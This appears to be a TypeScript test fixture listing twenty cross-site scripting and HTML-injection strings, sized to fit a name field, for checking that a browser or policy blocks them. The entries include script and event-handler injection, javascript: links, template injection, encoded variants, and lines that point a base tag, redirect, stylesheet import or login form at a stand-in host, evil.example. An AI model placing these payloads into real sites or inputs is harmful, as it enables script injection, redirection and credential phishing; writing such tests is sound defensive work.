/**
 * A browser that runs one of these texts logs a console error. One that only tries violates the policy. None is
 * longer than a name may be.
 */
export const hostileTexts = [
  '<script>console.error(1)</script>',
  '<img src=x onerror=console.error(2)>',
  '"><svg onload=console.error(3)>',
  "' autofocus onfocus=console.error(4) x='",
  '</title><script>console.error(5)</script>',
  '</style><style>*{display:none}</style>',
  '<style>@import"//evil.example"</style>',
  '<p style="position:fixed;inset:0">7</p>',
  '<a href="javascript:console.error(8)">pay</a>',
  'javascript:console.error(9)//',
  '[pay](javascript:console.error(10))',
  '<iframe srcdoc="<script>console.error(11)">',
  '<base href=//evil.example>',
  '<meta http-equiv=refresh content=0;//evil.example>',
  '<form action=//evil.example><button>Log in',
  '{{constructor.constructor("console.error(16)")()}}',
  '#{console.error(17)}<!--',
  '&lt;img src=x onerror=console.error(18)&gt;',
  '%3Cscript%3Econsole.error(19)%3C/script%3E',
  '<math><mi xlink:href="data:,console.error(20)">',
] as const;
